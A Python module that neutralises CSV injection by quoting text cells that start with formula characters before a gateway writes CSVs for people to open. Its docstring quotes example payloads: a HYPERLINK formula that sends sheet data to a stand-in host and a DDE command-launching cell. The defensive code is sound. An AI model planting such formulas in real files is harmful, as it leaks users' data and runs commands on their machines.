"""CSV cells a spreadsheet would run, made inert (OWASP "CSV Injection").

Every CSV the gateway writes for a person to open — ``subject_findings.csv``, a package's
``data.csv``, a ``--rejects`` file — carries text the requester or the vault supplied
(subject ids, names, employers). A spreadsheet that opens the file runs a cell that
starts like a formula: ``=HYPERLINK("http://x/?"&A1)`` sends the sheet's data away.

The rule (OWASP, https://owasp.org/www-community/attacks/CSV_Injection; ASVS 5.0
requirement 1.2.10): a *text* cell whose first character is ``=``, ``+``, ``-``, ``@``,
TAB (0x09), CR (0x0D) or NUL (0x00) is written with a single quote in front, and every
text cell is quoted. The full-width forms ``＝ ＋ － ＠`` are escaped too: spreadsheets
with an East Asian input method read them as the ASCII operators.

Numbers: a cell is judged by its column's *type*, never by its content. A numeric column
(a wage of -12.50 as a float) is written as the number it is, so it stays a number in the
spreadsheet; a text cell is escaped whatever it looks like, so the text "-12.50" comes out
as ``'-12.50``. Sniffing "looks like a number" is exactly what ``-1+1`` or
``-2+3+cmd|' /C calc'!A0`` exploit, so text is never given that benefit.

Why our own function and not ``defusedcsv``: that package wraps only the standard
library's ``csv`` writer (our CSVs are written by pandas and pyarrow), does not escape TAB
or CR, and rewrites every ``|`` inside a dangerous cell, which changes the data.

Parquet files are typed and opened by programs, not spreadsheets: they stay raw, so the
Parquet copy of a package keeps the exact values.
"""

from __future__ import annotations

import io
from pathlib import Path

import pandas as pd
import pyarrow as pa
import pyarrow.compute as pc
import pyarrow.csv as pacsv

#: First characters that make a spreadsheet read a cell as a formula or a command.
FORMULA_STARTS = "=+-@\t\r\x00＝＋－＠"
_FORMULA_START_RE = "^[" + "".join(f"\\x{{{ord(c):x}}}" for c in FORMULA_STARTS) + "]"


def escape_cell(value: str) -> str:
    """``value`` with a leading single quote when its first character starts a formula
    (the rule for one cell; :func:`escape_table` applies it to whole columns)."""
    return "'" + value if value[:1] in FORMULA_STARTS and value else value


def escape_table(table: pa.Table) -> pa.Table:
    """``table`` with its text columns escaped (vectorized); other columns untouched."""
    for i, column in enumerate(table.columns):
        kind = column.type
        if pa.types.is_dictionary(kind) and pa.types.is_string(kind.value_type):
            column = column.cast(kind.value_type)
            kind = column.type
        if not (pa.types.is_string(kind) or pa.types.is_large_string(kind)):
            continue
        risky = pc.match_substring_regex(column, _FORMULA_START_RE)
        quoted = pc.binary_join_element_wise(pa.scalar("'", kind), column, pa.scalar("", kind))
        table = table.set_column(i, table.field(i).name, pc.if_else(risky, quoted, column))
    return table


def table_csv_bytes(table: pa.Table) -> bytes:
    """``table`` as CSV for a person to open: a header row, text cells escaped and quoted
    (RFC 4180), numbers written as numbers, and an empty unquoted cell for a null."""
    buf = io.BytesIO()
    pacsv.write_csv(escape_table(table), buf)
    return buf.getvalue()


def write_frame_csv(frame: pd.DataFrame, path: Path) -> None:
    """Write ``frame`` the same way (through Arrow, so its column types decide what is
    text): the one writer for every CSV the gateway hands out."""
    Path(path).write_bytes(table_csv_bytes(pa.Table.from_pandas(frame, preserve_index=False)))
